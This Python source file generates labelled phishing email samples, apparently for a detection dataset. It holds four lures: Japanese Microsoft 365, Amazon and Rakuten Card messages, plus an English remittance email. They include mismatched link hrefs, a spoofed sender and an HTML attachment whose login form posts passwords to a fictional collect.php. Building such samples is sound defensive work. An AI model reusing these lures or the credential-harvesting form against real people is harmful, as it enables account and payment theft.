"""Phishing messages (label phishing). All domains and URLs are fictional; do not visit them."""
import hops as H
from build import Spec, jst, auth, aligned, mid_generic
from mime import Text, Multi, Attachment
from org import P


def _m365_ja():
    f = "phish-01-m365-password-expiry-ja.eml"
    when = jst(2025, 6, 11, 7, 58, 14)
    rc = P("nakamura")
    shown = "https://login.microsoftonline.com/example.net/passwordreset"
    real = f"https://m365-example-net.login-verify.top/owa/?email={rc.email}"
    text = f"""Microsoft 365

{rc.email} のパスワードは本日で有効期限が切れます。

引き続き同じパスワードを使用するには、24時間以内に以下から確認してください。
確認されない場合、メールの送受信が停止されます。

現在のパスワードを保持する:
{shown}

Microsoft 365 管理センター
このメールは送信専用です。
"""
    html = f"""<html><body style="font-family:Meiryo,sans-serif">
<p style="font-size:20px;color:#0078d4">Microsoft 365</p>
<p><b>{rc.email}</b> のパスワードは本日で有効期限が切れます。</p>
<p>引き続き同じパスワードを使用するには、24時間以内に以下から確認してください。<br>
確認されない場合、メールの送受信が停止されます。</p>
<p><a href="{real}" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">現在のパスワードを保持する</a></p>
<p>リンク: <a href="{real}">{shown}</a></p>
<p style="color:#888;font-size:11px">Microsoft 365 管理センター<br>このメールは送信専用です。</p>
</body></html>
"""
    return Spec(
        f, "phishing", "credential-phishing", "ja",
        f"Microsoft 365 password-expiry lure. HTML link text shows {shown} but the href is {real} "
        "(mismatch); the plain-text part shows only the decoy. Sender domain mail-m365-notice.top; "
        "auth passes for that domain. UTF-8 quoted-printable.",
        when=when, frm=("Microsoft 365 管理センター", "no-reply@mail-m365-notice.top"),
        to=[("", rc.email)], subject="【重要】パスワードの有効期限が本日切れます", hcs=("UTF-8", "B"),
        body=Multi("alternative", [Text(text, charset="UTF-8", cte="quoted-printable"),
                                   Text(html, "html", charset="UTF-8", cte="quoted-printable")]),
        provider=H.server(f, when, rc.email, "mta07.mail-m365-notice.top", "194.26.135.77", sel="k1"),
        auth=aligned("mail-m365-notice.top"),
        mid=mid_generic(f, when, "mail-m365-notice.top"))


LOGIN_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Excel Online - Sign in to view document</title>
<style>body{{font-family:Segoe UI,Arial;background:#f3f2f1}}.box{{width:340px;margin:80px auto;background:#fff;padding:32px}}
input{{width:100%;padding:8px;margin:6px 0}}button{{background:#217346;color:#fff;border:0;padding:10px;width:100%}}</style>
</head><body><div class="box">
<h3>Remittance_Advice_INV-20931.xlsx</h3>
<p>This document is protected. Sign in with your work account to view it.</p>
<form method="POST" action="https://ngl-docs.online/auth/collect.php">
<input type="email" name="login" value="{email}">
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="src" value="remit-0619">
<button type="submit">View Document</button>
</form>
<p style="font-size:11px;color:#777">Microsoft Corporation</p>
</div>
<script>document.forms[0].passwd.focus();</script>
</body></html>
"""


def _html_attachment_en():
    f = "phish-02-remittance-html-attachment-en.eml"
    when = jst(2025, 6, 19, 2, 14, 50)
    rc = P("matsumoto")
    text = """Hello,

Please find attached the remittance advice for invoice INV-20931. The payment has been released and should reach your account within 2 business days.

Kindly open the attachment to view the payment details.

Regards,
Accounts Payable
Northgate Logistics
"""
    att = LOGIN_HTML.format(email=rc.email).encode("utf-8")
    return Spec(
        f, "phishing", "html-attachment", "en",
        "HTML attachment with a login form (prefilled address, password field) posting to "
        "https://ngl-docs.online/auth/collect.php. Sender ngl-payments.online, auth passes. No link in the body.",
        when=when, frm=("Accounts Payable | Northgate Logistics", "ap-remittance@ngl-payments.online"),
        to=[("", rc.email)], subject="Remittance Advice - INV-20931 - Payment Released",
        body=Multi("mixed", [Text(text, charset="UTF-8", cte="7bit"),
                             Attachment(att, "text/html", "Remittance_Advice_INV-20931.html")]),
        provider=H.server(f, when, rc.email, "smtp.ngl-payments.online", "77.83.247.15",
                          client=("unknown", "77.83.247.16"), sel="default"),
        auth=aligned("ngl-payments.online"),
        mid=mid_generic(f, when, "ngl-payments.online"))


def _amazon_shortener_ja():
    f = "phish-03-amazon-shortener-ja.eml"
    when = jst(2025, 6, 14, 20, 3, 31)
    rc = P("ikeda")
    body = """Amazon.co.jp をご利用いただきありがとうございます。

お客様のアカウントで異常なサインインが検出されたため、アカウントを一時的に停止しました。
引き続きご利用いただくには、以下のリンクからお支払い情報を更新してください。

https://bit.ly/4kQz7Rw

48時間以内にご確認いただけない場合、アカウントは完全にロックされ、
注文済みの商品もキャンセルされます。

Amazon.co.jp カスタマーサービス
"""
    return Spec(
        f, "phishing", "brand-lure", "ja",
        "Amazon brand lure (account suspended, update payment details) with a URL shortener (bit.ly); "
        "sender amazon-co-jp.account-care.icu; SPF pass, no DKIM, no DMARC record. ISO-2022-JP.",
        when=when, frm=("Amazon.co.jp", "account-update@amazon-co-jp.account-care.icu"),
        to=[("", rc.email)], subject="Amazon.co.jp アカウントの一時停止のお知らせ",
        body=Text(body),
        provider=H.server(f, when, rc.email, "mail.account-care.icu", "103.75.190.11"),
        auth=auth("pass", "amazon-co-jp.account-care.icu", "none", None, "none", "amazon-co-jp.account-care.icu"),
        mid=mid_generic(f, when, "account-care.icu"))


def _card_spoof_ja():
    f = "phish-04-card-spoofed-brand-ja.eml"
    when = jst(2025, 6, 21, 11, 26, 8)
    rc = P("hashimoto")
    shown = "https://www.rakuten-card.co.jp/e-navi/"
    real = "http://rakuten-card.co.jp.e-navi-login.icu/member/verify?id=8812031"
    text = f"""楽天カード会員様

いつも楽天カードをご利用いただきありがとうございます。
お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知しました。
安全のため、カードのご利用を一時的に制限しております。

下記よりご本人様確認をお願いいたします。
{shown}

※本メールは送信専用アドレスから配信しています。
楽天カード株式会社
"""
    html = f"""<html><body>
<p>楽天カード会員様</p>
<p>いつも楽天カードをご利用いただきありがとうございます。<br>
お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知しました。<br>
安全のため、カードのご利用を一時的に制限しております。</p>
<p>下記よりご本人様確認をお願いいたします。<br>
<a href="{real}">{shown}</a></p>
<p>※本メールは送信専用アドレスから配信しています。<br>楽天カード株式会社</p>
</body></html>
"""
    return Spec(
        f, "phishing", "brand-lure", "ja",
        "Credit-card brand lure with a spoofed From (rakuten-card.co.jp) and envelope sender kdjq.icu: "
        "SPF pass for kdjq.icu, no DKIM, DMARC fail (p=reject, delivered anyway). Link text shows the "
        f"real site, href is {real}. Text part ISO-2022-JP, HTML part UTF-8 base64.",
        when=when, frm=("楽天カード株式会社", "info@rakuten-card.co.jp"),
        to=[("", rc.email)], subject="【重要】カードご利用制限のお知らせ",
        body=Multi("alternative", [Text(text), Text(html, "html", charset="UTF-8", cte="base64")]),
        provider=H.server(f, when, rc.email, "mail.kdjq.icu", "38.54.57.102"),
        auth=dict(auth("pass", "kdjq.icu", "none", None, "fail", "rakuten-card.co.jp", p="reject"), dis="none"),
        return_path="bounce-8812031@kdjq.icu",
        mid=mid_generic(f, when, "kdjq.icu"))


def messages():
    from msgs_phish2 import messages as more
    return [_m365_ja(), _html_attachment_en(), _amazon_shortener_ja(), _card_spoof_ja()] + more()
